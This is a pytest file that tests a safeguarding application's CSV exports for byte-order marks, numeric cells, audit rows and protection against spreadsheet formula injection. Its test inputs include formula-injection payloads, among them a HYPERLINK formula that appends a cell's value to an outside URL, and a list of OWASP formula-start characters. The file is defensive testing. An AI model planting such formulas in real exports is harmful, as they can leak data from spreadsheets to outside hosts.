"""Every CSV export, through its real URL: UTF-8 with a byte-order mark, no cell a spreadsheet
would run as a formula, numbers kept as numbers, one audit row with the row count
(``safeguarding/exports.py``)."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from auditlog.models import LogEntry
from django.urls import reverse
from django.utils import timezone

from cases import figures
from cases.models import Concern, ConcernSubject, HarmCategory
from contexts.models import Context
from safeguarding.accounts.models import Organisation
from safeguarding.exports import spreadsheet_safe

pytestmark = pytest.mark.world_per_module  # one world for the module (tests/conftest.py)

#: Every export: (what it is called in the audit, its URL, its query).
EXPORTS = [
    ("hotspots", "contexts:hotspots", {"days": "30", "export": "places"}),
    ("referrals-by-source", "cases:themes", {"export": "referrals-by-source"}),
    ("referrals-by-decision", "cases:themes", {"export": "referrals-by-decision"}),
    ("concerns-by-harm", "cases:themes", {"export": "concerns-by-harm"}),
]

#: The exports whose first column is text that people typed: a place's, an organisation's or a
#: harm's name. (Decisions are the application's own labels.)
NAMED_BY = {
    "hotspots": "place",
    "referrals-by-source": "organisation",
    "concerns-by-harm": "harm",
}

#: OWASP's characters that start a formula.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _name_everything(world, names: dict[str, str]) -> None:
    """Give the team's place, the police and the harm CSE the names given, then count the
    borough's figures (as Celery beat does)."""
    Context.objects.filter(pk=world.records["contexts.context"]["team"].pk).update(
        name=names["place"]
    )
    Organisation.objects.filter(pk=world.records["accounts.organisation"]["p1"].pk).update(
        name=names["organisation"]
    )
    HarmCategory.objects.filter(slug="cse").update(name=names["harm"])
    figures.borough_figures_refresh(authority=world.records["accounts.organisation"]["la"])


def _download(client, url_name, query):
    response = client.get(reverse(url_name), query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response


def _cells(response) -> list[list[str]]:
    """The rows as Excel reads them: UTF-8 after the byte-order mark."""
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("export,url_name,query", EXPORTS)
def test_every_export_is_utf8_with_a_byte_order_mark(world, client, export, url_name, query):
    _name_everything(
        world,
        {"place": "Zoë Ōkafor Gardens", "organisation": "Zoë Ōkafor Academy", "harm": "Zoë Ōkafor"},
    )
    client.force_login(world.users["sm"])
    response = _download(client, url_name, query)
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.count(b"\xef\xbb\xbf") == 1
    cells = _cells(response)
    assert not cells[0][0].startswith("\ufeff")  # utf-8-sig takes the mark off
    if export in NAMED_BY:
        assert any(row[0].startswith("Zoë Ōkafor") for row in cells[1:]), cells
    filename = {"hotspots": "hotspots-30-days"}.get(export, export)
    assert response["Content-Disposition"] == f'attachment; filename="{filename}.csv"'


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_no_export_has_a_cell_a_spreadsheet_would_run(world, client, start):
    names = {
        kind: f'{start}HYPERLINK("https://example.invalid/?"&A1,"{kind}")'
        for kind in ("place", "organisation", "harm")
    }
    _name_everything(world, names)
    client.force_login(world.users["sm"])
    for export, url_name, query in EXPORTS:
        cells = _cells(_download(client, url_name, query))
        for row in cells:
            for cell in row:
                assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, (export, cell)
        if export in NAMED_BY:
            assert "'" + names[NAMED_BY[export]] in [row[0] for row in cells], (export, cells)


def test_numbers_stay_numbers_and_separators_other_than_commas_are_quoted(world, client):
    """A fall in concerns is written -1, a number (not '-1, text); a name holding a semicolon
    is quoted, so a spreadsheet splitting on semicolons does not start a cell at the ``=``."""
    other = world.records["contexts.context"]["other"]
    for days_ago in (40, 45):  # the 30 days before the last 30
        concern = Concern.objects.create(
            authority=world.records["accounts.organisation"]["la"],
            occurred_at=timezone.now() - timedelta(days=days_ago),
            narrative="Seen with older males",
            source="police",
            reliability="reliable",
            logged_by=world.users["sw"],
        )
        ConcernSubject.objects.create(concern=concern, subject=other.subject, part="location")
    Context.objects.filter(pk=other.pk).update(name="Ōkafor Yard;=1+1")
    figures.borough_figures_refresh(authority=world.records["accounts.organisation"]["la"])
    client.force_login(world.users["sm"])
    response = _download(client, "contexts:hotspots", {"days": "30", "export": "places"})
    text = response.content.decode("utf-8-sig")
    line = next(line for line in text.splitlines() if "Ōkafor Yard" in line)
    assert line == f'"Ōkafor Yard;=1+1",{other.reference},{other.get_kind_display()},1,2,-1,no'
    assert _cells(response)[0][:3] == ["Place", "Reference", "Kind"]


def test_spreadsheet_safe_neutralises_text_and_keeps_numbers():
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe(Decimal("-1.5")) == Decimal("-1.5")
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(True) == "True"
    assert spreadsheet_safe("-3") == "'-3"  # text, not a number: it may be anything
    assert spreadsheet_safe("  =1+1") == "'  =1+1"
    assert spreadsheet_safe("Zoë Ōkafor") == "Zoë Ōkafor"
    assert spreadsheet_safe("") == ""
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("export,url_name,query", EXPORTS)
def test_every_export_writes_one_audit_row_with_its_row_count(
    world, client, export, url_name, query
):
    figures.borough_figures_refresh(authority=world.records["accounts.organisation"]["la"])
    sm = world.users["sm"]
    client.force_login(sm)
    exports = LogEntry.objects.filter(object_pk="export")
    before = set(exports.values_list("pk", flat=True))
    cells = _cells(_download(client, url_name, query))
    written = exports.exclude(pk__in=before)
    assert written.count() == 1
    entry = written.get()
    assert entry.actor == sm and entry.additional_data["export"] == export
    assert entry.additional_data["rows"] == len(cells) - 1 > 0
